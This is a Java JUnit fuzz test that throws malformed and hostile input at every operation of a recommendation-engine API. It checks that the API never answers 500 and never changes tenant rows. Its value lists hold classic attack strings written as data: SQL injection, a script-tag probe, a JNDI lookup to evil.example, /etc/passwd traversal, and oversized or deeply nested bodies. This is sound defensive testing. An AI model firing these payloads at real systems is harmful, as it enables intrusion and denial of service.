package com.recomengine.platform;

import static org.assertj.core.api.Assertions.assertThat;

import com.recomengine.support.Api;
import com.recomengine.support.HttpTest;
import com.recomengine.support.RawSocket;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Hostile and careless input for every operation of the OpenAPI document at {@code /v3/api-docs}: bodies, query and
 * path parameters and headers of the wrong type, empty, huge, with NUL, lone surrogates, deep nesting, injection
 * strings, wrong content types and duplicate keys, sent over a raw socket so that nothing is cleaned on the way.
 * Every answer must be below 500, every error {@code application/problem+json}, and a refused request must leave
 * the tenants' rows as they were. Seeded: {@code -Dfuzz.seed=…} replays a run, {@code -Dfuzz.requests=…} sizes it.
 */
class FuzzTest extends HttpTest {

    private static final int DEFAULT_REQUESTS = 5_500;

    @Autowired
    JdbcTemplate jdbc;

    private final Random random = new Random();
    private final List<String> failures = new ArrayList<>();
    private JsonNode document;
    private Map<String, String> pathValues;
    private String adminToken;
    private String key;
    private List<String> tenants;

    private record Operation(String method, String path, JsonNode spec) {}

    private record Sent(String description, Api.Response response) {}

    @Test
    void noBadInputEverAnswers500OrChangesARow() {
        long seed = Long.getLong("fuzz.seed", System.nanoTime());
        int requests = Integer.getInteger("fuzz.requests", DEFAULT_REQUESTS);
        System.out.println("Fuzz seed: " + seed + " (replay with -Dfuzz.seed=" + seed + ")");
        random.setSeed(seed);
        prepare();
        List<Operation> operations = operations();
        assertThat(operations).hasSizeGreaterThan(40);

        int sent = 0;
        int serverErrors = 0;
        Map<Integer, Integer> statuses = new java.util.TreeMap<>();
        String digest = digest();
        long started = System.nanoTime();
        while (sent < requests) {
            Operation operation = operations.get(sent % operations.size());
            Sent request = mutate(operation);
            sent++;
            Api.Response response = request.response();
            statuses.merge(response.status(), 1, Integer::sum);
            if (response.status() >= 500) {
                serverErrors++;
                fail(request, "answered " + response.status());
                digest = digest();
                continue;
            }
            if (response.status() >= 400) {
                checkProblem(request);
                String after = digest();
                if (!after.equals(digest)) {
                    fail(request, "refused with " + response.status() + " but changed a row");
                }
                digest = after;
            } else {
                digest = digest();
            }
        }
        System.out.printf(
                "Fuzz: %d requests, %d answers of 5xx, %.1f s, statuses %s%n",
                sent, serverErrors, (System.nanoTime() - started) / 1e9, statuses);
        assertThat(failures)
                .as("seed " + seed + ": " + failures.size() + " failures")
                .isEmpty();
    }

    private void fail(Sent request, String what) {
        if (failures.size() < 40) {
            String body = request.response().body();
            failures.add(request.description() + " → " + what + ": "
                    + (body.length() > 300 ? body.substring(0, 300) + "…" : body));
        } else {
            failures.add("…");
        }
    }

    private void checkProblem(Sent request) {
        Api.Response response = request.response();
        if (!response.contentType().startsWith("application/problem+json")) {
            fail(request, response.status() + " as " + response.contentType() + ", not problem+json");
            return;
        }
        try {
            JsonNode problem = response.json();
            if (problem.path("status").asInt() != response.status()
                    || problem.path("title").asString("").isBlank()
                    || problem.path("detail").asString("").isBlank()) {
                fail(request, "incomplete problem");
            }
        } catch (RuntimeException e) {
            fail(request, "problem that is not JSON");
        }
    }

    // --- the tenants under fire ---------------------------------------------------------------------------------

    private void prepare() {
        Admin admin = signUpAndLogIn();
        adminToken = admin.accessToken();
        String keyTenant = createTenant(admin);
        String adminTenant = createTenant(admin);
        tenants = List.of(keyTenant, adminTenant);
        var limits = api.patch(
                        "/api/v1/tenants/" + keyTenant, Map.of("readsPerMinute", 10_000, "writesPerMinute", 10_000))
                .bearer(adminToken)
                .send();
        assertThat(limits.status()).as(limits.body()).isEqualTo(200);
        key = issueKey(admin, keyTenant, "secret", "read-write");
        var product = api.put(
                        "/api/v1/catalog/products/fuzz-1",
                        Map.of("name", "Fuzz candle", "price", 3.5, "currency", "GBP", "category", "Candles"))
                .key(key)
                .send();
        assertThat(product.status()).as(product.body()).isBetween(200, 201);
        var issued = issueKeyResponse(admin, adminTenant, "secret", "read");
        var widget = api.post(
                        "/api/v1/tenants/" + adminTenant + "/widgets",
                        Map.of("placementId", "home", "strategy", "popular"))
                .bearer(adminToken)
                .send();
        assertThat(widget.status()).as(widget.body()).isEqualTo(201);
        var experiment = api.post(
                        "/api/v1/tenants/" + adminTenant + "/experiments",
                        Map.of(
                                "name", "Fuzz",
                                "placementId", "home",
                                "controlStrategy", "popular",
                                "variantStrategy", "trending",
                                "primaryMetric", "ctr",
                                "trafficSplit", 50))
                .bearer(adminToken)
                .send();
        assertThat(experiment.status()).as(experiment.body()).isEqualTo(201);
        pathValues = Map.of(
                "tenantId",
                adminTenant,
                "keyId",
                issued.json().get("id").asString(),
                "expId",
                experiment.json().get("id").asString(),
                "placementId",
                "home",
                "productId",
                "fuzz-1");
        document = api.get("/v3/api-docs").send().json();
    }

    /**
     * A digest of every row the two tenants own in the tables that requests change synchronously (events and the
     * aggregates drawn from them are written behind the request, by design).
     */
    private String digest() {
        String ids = "{" + String.join(",", tenants) + "}";
        return jdbc.queryForObject("""
                SELECT md5(coalesce(string_agg(d, '|' ORDER BY d), '')) FROM (
                  SELECT (to_jsonb(t) - 'updated_at')::text d FROM tenants t WHERE id = ANY(?::uuid[])
                  UNION ALL SELECT (to_jsonb(k) - 'last_used_at')::text FROM api_keys k WHERE tenant_id = ANY(?::uuid[])
                  UNION ALL SELECT to_jsonb(p)::text FROM products p WHERE tenant_id = ANY(?::uuid[])
                  UNION ALL SELECT to_jsonb(e)::text FROM experiments e WHERE tenant_id = ANY(?::uuid[])
                  UNION ALL SELECT to_jsonb(w)::text FROM widgets w WHERE tenant_id = ANY(?::uuid[])
                  UNION ALL SELECT to_jsonb(d)::text FROM placement_defaults d WHERE tenant_id = ANY(?::uuid[])
                ) rows
                """, String.class, ids, ids, ids, ids, ids, ids);
    }

    // --- the document --------------------------------------------------------------------------------------------

    private List<Operation> operations() {
        List<Operation> operations = new ArrayList<>();
        for (Map.Entry<String, JsonNode> path : document.get("paths").properties()) {
            for (Map.Entry<String, JsonNode> method : path.getValue().properties()) {
                if (List.of("get", "post", "put", "patch", "delete").contains(method.getKey())) {
                    operations.add(new Operation(method.getKey().toUpperCase(), path.getKey(), method.getValue()));
                }
            }
        }
        return operations;
    }

    private JsonNode resolve(JsonNode schema) {
        if (schema != null && schema.has("$ref")) {
            String name = schema.get("$ref").asString().substring("#/components/schemas/".length());
            return document.get("components").get("schemas").get(name);
        }
        return schema;
    }

    private String securityOf(Operation operation) {
        JsonNode security = operation.spec().get("security");
        if (security == null || security.isEmpty()) {
            return "public";
        }
        return security.get(0).propertyNames().iterator().next();
    }

    private List<JsonNode> parameters(Operation operation, String in) {
        List<JsonNode> found = new ArrayList<>();
        JsonNode parameters = operation.spec().get("parameters");
        if (parameters != null) {
            parameters.forEach(p -> {
                if (in.equals(p.get("in").asString())) {
                    found.add(p);
                }
            });
        }
        return found;
    }

    private String bodyType(Operation operation) {
        JsonNode content = operation.spec().path("requestBody").path("content");
        Iterator<String> types = content.propertyNames().iterator();
        return types.hasNext() ? types.next() : null;
    }

    /** A plausible value for a schema: an example, the first allowed value, or one of the right type. */
    private JsonNode plausible(JsonNode schema, int depth) {
        schema = resolve(schema);
        if (schema == null || depth > 4) {
            return Api.JSON.getNodeFactory().nullNode();
        }
        var nodes = Api.JSON.getNodeFactory();
        if (schema.has("example") && !schema.get("example").isObject()) {
            return schema.get("example");
        }
        if (schema.has("enum")) {
            return schema.get("enum").get(0);
        }
        String type = schema.path("type").asString("object");
        switch (type) {
            case "string" -> {
                String pattern = schema.path("pattern").asString("");
                if (pattern.matches("[a-z_|]+")) {
                    return nodes.stringNode(pattern.split("\\|")[0]);
                }
                return nodes.stringNode(
                        switch (schema.path("format").asString("")) {
                            case "email" -> "fuzz-" + UUID.randomUUID() + "@shop.test";
                            case "uuid" -> UUID.randomUUID().toString();
                            case "date-time" -> java.time.Instant.now().toString();
                            case "date" -> java.time.LocalDate.now().toString();
                            case "uri" -> "https://shop.example.com/x";
                            default -> "fuzz-" + Integer.toHexString(random.nextInt(1 << 16));
                        });
            }
            case "integer" -> {
                return nodes.numberNode(
                        schema.has("minimum") ? schema.get("minimum").asLong() : 1L);
            }
            case "number" -> {
                return nodes.numberNode(2.5);
            }
            case "boolean" -> {
                return nodes.booleanNode(true);
            }
            case "array" -> {
                var array = nodes.arrayNode();
                array.add(plausible(schema.get("items"), depth + 1));
                return array;
            }
            default -> {
                ObjectNode object = nodes.objectNode();
                JsonNode properties = schema.get("properties");
                if (properties != null) {
                    properties.properties().forEach(p -> object.set(p.getKey(), plausible(p.getValue(), depth + 1)));
                }
                return object;
            }
        }
    }

    // --- the hostile values --------------------------------------------------------------------------------------

    /** JSON values that are wrong for a field: wrong types, out of range, empty, huge, NUL, surrogates, injection. */
    private String badJsonValue() {
        return switch (random.nextInt(34)) {
            case 0 -> "1.9";
            case 1 -> "\"3\"";
            case 2 -> "true";
            case 3 -> "null";
            case 4 -> "[]";
            case 5 -> "{}";
            case 6 -> "-1";
            case 7 -> "0";
            case 8 -> "1e309";
            case 9 -> "-1e309";
            case 10 -> "9223372036854775808";
            case 11 -> "123456789012345678901234567890.5";
            case 12 -> "\"\"";
            case 13 -> "\"   \"";
            case 14 -> "\"a\\u0000b\"";
            case 15 -> "\"\\ud800\"";
            case 16 -> "\"x\\udc00y\"";
            case 17 -> "\"" + "a".repeat(100_000) + "\"";
            case 18 -> "\"' OR '1'='1' --\"";
            case 19 -> "\"<script>alert(1)</script>\"";
            case 20 -> "\"${jndi:ldap://evil.example/a}\"";
            case 21 -> "\"../../etc/passwd\"";
            case 22 -> "\"!!!\"";
            case 23 -> "[".repeat(5_000) + "]".repeat(5_000);
            case 24 -> "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000);
            case 25 -> "[" + "1,".repeat(200_000) + "1]";
            case 26 -> "{\"$where\":\"1\"}";
            case 27 -> "\"\\u202e\\u0007\\u001b[31m\"";
            case 28 -> "\"2026-13-45T99:99:99Z\"";
            case 29 -> "1e-400";
            case 30 -> "-0";
            case 31 -> "\"NaN\"";
            case 32 -> "[\"a\\u0000\"]";
            default -> "\"\\ud83d\"";
        };
    }

    /** Whole bodies that are wrong: not JSON, not an object, nested without end, keys twice, bytes not UTF-8. */
    private byte[] badBody(String valid) {
        String inner = valid.length() > 2 ? valid.substring(1, valid.length() - 1) : "";
        String body = switch (random.nextInt(16)) {
            case 0 -> "";
            case 1 -> "{";
            case 2 -> "[]";
            case 3 -> "null";
            case 4 -> "\"x\"";
            case 5 -> "{}";
            case 6 -> "[".repeat(100_000);
            case 7 -> inner.isEmpty() ? "{\"a\":1,\"a\":2}" : "{" + inner + "," + inner + "}";
            case 8 -> "{\"unknown\\u0000\":1" + (inner.isEmpty() ? "" : "," + inner) + "}";
            case 9 -> valid + " {}";
            case 10 -> "{\"" + "k".repeat(300_000) + "\":1}";
            case 11 -> "{\"x\":\"" + "a".repeat(2_200_000) + "\"}";
            case 12 -> "\uFEFF" + valid;
            case 13 -> "{'single':'quotes'}";
            case 14 -> "{\"a\":1,}";
            default -> null;
        };
        if (body != null) {
            return body.getBytes(StandardCharsets.UTF_8);
        }
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes("{\"name\":\"".getBytes(StandardCharsets.UTF_8));
        bytes.writeBytes(
                random.nextBoolean()
                        ? new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}
                        : new byte[] {(byte) 0xFF, (byte) 0xFE});
        bytes.writeBytes("\"}".getBytes(StandardCharsets.UTF_8));
        return bytes.toByteArray();
    }

    /** Raw (already percent-encoded where it needs to be) values for a query or path parameter. */
    private String badParameter() {
        return switch (random.nextInt(26)) {
            case 0 -> "";
            case 1 -> "-1";
            case 2 -> "0";
            case 3 -> "1.9";
            case 4 -> "1e309";
            case 5 -> "NaN";
            case 6 -> "99999999999999999999";
            case 7 -> "%00";
            case 8 -> "a%00b";
            case 9 -> "%ED%A0%80";
            case 10 -> "%FF%FE";
            case 11 -> "%";
            case 12 -> "%zz";
            case 13 -> "'%20OR%201=1--";
            case 14 -> "!!!";
            case 15 -> "%3Cscript%3Ealert(1)%3C/script%3E";
            case 16 -> "a".repeat(2_000);
            case 17 -> "a".repeat(9_000);
            case 18 -> "..%2F..%2Fetc%2Fpasswd";
            case 19 -> "true";
            case 20 -> "%E2%80%AE";
            case 21 -> "%5B%5D";
            case 22 -> "null";
            case 23 -> "%20%20";
            case 24 -> "2026-02-30";
            default -> "%C0%AE";
        };
    }

    // --- one request ---------------------------------------------------------------------------------------------

    private Sent mutate(Operation operation) {
        Map<String, String> path = new LinkedHashMap<>();
        parameters(operation, "path").forEach(p -> {
            String name = p.get("name").asString();
            String value = "DELETE".equals(operation.method())
                            || operation.path().matches(".*/(suspend|activate|complete|pause|promote|start)$")
                    ? UUID.randomUUID().toString()
                    : pathValues.getOrDefault(name, "x");
            path.put(name, value);
        });
        Map<String, String> query = new LinkedHashMap<>();
        parameters(operation, "query").forEach(p -> {
            if (random.nextInt(3) == 0) {
                query.put(p.get("name").asString(), plausibleParameter(p));
            }
        });
        Map<String, String> headers = new LinkedHashMap<>();
        switch (securityOf(operation)) {
            case "apiKey" -> headers.put("X-API-Key", key);
            case "adminToken" -> headers.put("Authorization", "Bearer " + adminToken);
            default -> {}
        }
        String contentType = bodyType(operation);
        String validBody = contentType == null
                ? null
                : "text/csv".equals(contentType)
                        ? "id,title,price\nfuzz-2,Fuzz,1.5\n"
                        : Api.JSON.writeValueAsString(plausible(
                                operation
                                        .spec()
                                        .at("/requestBody/content/" + contentType.replace("/", "~1") + "/schema"),
                                0));
        byte[] body = validBody == null ? null : validBody.getBytes(StandardCharsets.UTF_8);
        String what;

        int choice = random.nextInt(10);
        List<JsonNode> pathParameters = parameters(operation, "path");
        List<JsonNode> queryParameters = parameters(operation, "query");
        if (choice < 4 && validBody != null && !"text/csv".equals(contentType)) {
            JsonNode valid = Api.JSON.readTree(validBody);
            if (valid.isObject() && !valid.isEmpty() && random.nextInt(4) != 0) {
                List<String> fields = new ArrayList<>(valid.propertyNames());
                String field = fields.get(random.nextInt(fields.size()));
                String value = badJsonValue();
                body = replaceField((ObjectNode) valid, field, value, operation).getBytes(StandardCharsets.UTF_8);
                what = "field " + field + " = " + abbreviate(value);
            } else {
                body = badBody(validBody);
                what = "body " + abbreviate(new String(body, StandardCharsets.UTF_8));
            }
        } else if (choice < 5 && "text/csv".equals(contentType)) {
            body = badCsv();
            what = "csv " + abbreviate(new String(body, StandardCharsets.UTF_8));
        } else if (choice < 5 && body != null) {
            contentType = switch (random.nextInt(6)) {
                case 0 -> "text/plain";
                case 1 -> "application/xml";
                case 2 -> "application/x-www-form-urlencoded";
                case 3 -> "multipart/form-data";
                case 4 -> "application/json; charset=ISO-8859-1";
                default -> "application/json; charset=bogus";
            };
            what = "content type " + contentType;
        } else if (choice < 7 && !queryParameters.isEmpty()) {
            JsonNode parameter = queryParameters.get(random.nextInt(queryParameters.size()));
            String value = badParameter();
            query.put(parameter.get("name").asString(), value);
            what = "query " + parameter.get("name").asString() + " = " + abbreviate(value);
        } else if (choice < 8 && !pathParameters.isEmpty()) {
            JsonNode parameter = pathParameters.get(random.nextInt(pathParameters.size()));
            String value = badParameter();
            path.put(parameter.get("name").asString(), value.isEmpty() ? "%20" : value);
            what = "path " + parameter.get("name").asString() + " = " + abbreviate(value);
        } else {
            what = badHeader(headers);
        }

        String target = operation.path();
        for (Map.Entry<String, String> p : path.entrySet()) {
            target = target.replace("{" + p.getKey() + "}", p.getValue());
        }
        if (!query.isEmpty()) {
            StringBuilder q = new StringBuilder();
            query.forEach((k, v) ->
                    q.append(q.isEmpty() ? "?" : "&").append(k).append('=').append(v));
            target += q;
        }
        StringBuilder head = new StringBuilder(operation.method() + " " + target + " HTTP/1.1\r\nHost: localhost\r\n");
        if (contentType != null && body != null) {
            head.append("Content-Type: ").append(contentType).append("\r\n");
        }
        headers.forEach((k, v) -> head.append(k).append(": ").append(v).append("\r\n"));
        String description = operation.method() + " " + abbreviate(target) + " [" + what + "]";
        try {
            return new Sent(description, RawSocket.send(port, head.toString(), body));
        } catch (IllegalStateException e) {
            return new Sent(description, new Api.Response(599, Map.of(), "no HTTP answer: " + e.getCause()));
        }
    }

    private String replaceField(ObjectNode valid, String field, String rawValue, Operation operation) {
        String marker = "\"__fuzz_" + UUID.randomUUID() + "\"";
        valid.put(field, "__marker__");
        String text = Api.JSON.writeValueAsString(valid).replace("\"__marker__\"", marker);
        return text.replace(marker, rawValue);
    }

    private String plausibleParameter(JsonNode parameter) {
        JsonNode value = plausible(parameter.get("schema"), 0);
        String text = value.isString() ? value.asString() : value.toString();
        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private byte[] badCsv() {
        String csv = switch (random.nextInt(8)) {
            case 0 -> "";
            case 1 -> "id," + "c,".repeat(200_000) + "x\n1,2\n";
            case 2 -> "id,title,price\n" + "a".repeat(3_000_000) + "\n";
            case 3 -> "id,title,price\nx\u0000y,Fuzz,1\n";
            case 4 -> "id,title,price\nx,\"unterminated,1\n";
            case 5 -> "id,title,price\nx,Fuzz,1e309\n";
            case 6 -> "\uFEFFid,id,id\n1,2,3\n";
            default -> "id,title,price\nx,Fuzz,NaN\n";
        };
        return csv.getBytes(StandardCharsets.UTF_8);
    }

    private String badHeader(Map<String, String> headers) {
        return switch (random.nextInt(12)) {
            case 0 -> set(headers, "Idempotency-Key", "a".repeat(5_000));
            case 1 -> set(headers, "Idempotency-Key", "\u0001\u0002");
            case 2 -> set(headers, "X-Request-ID", "r".repeat(7_000));
            case 3 -> set(headers, "X-Request-ID", "id\u00e9\u00ff");
            case 4 -> set(headers, "Accept", "application/xml");
            case 5 -> set(headers, "Accept", "text/html");
            case 6 -> set(headers, "If-Match", "\"garbage\" , W/");
            case 7 -> set(headers, "Origin", "null");
            case 8 -> set(headers, "X-API-Key", "rk_" + "z".repeat(random.nextInt(300)));
            case 9 -> set(headers, "Authorization", "Bearer eyJ" + "x".repeat(random.nextInt(500)) + ".a.b");
            case 10 -> set(headers, "Cookie", "recomengine_refresh=" + "%00%ff" + UUID.randomUUID());
            default -> set(headers, "Accept-Language", "\u00ff".repeat(100));
        };
    }

    private static String set(Map<String, String> headers, String name, String value) {
        headers.put(name, value);
        return "header " + name + ": " + abbreviate(value);
    }

    private static String abbreviate(String text) {
        return text.length() > 80 ? text.substring(0, 80) + "…(" + text.length() + ")" : text;
    }
}
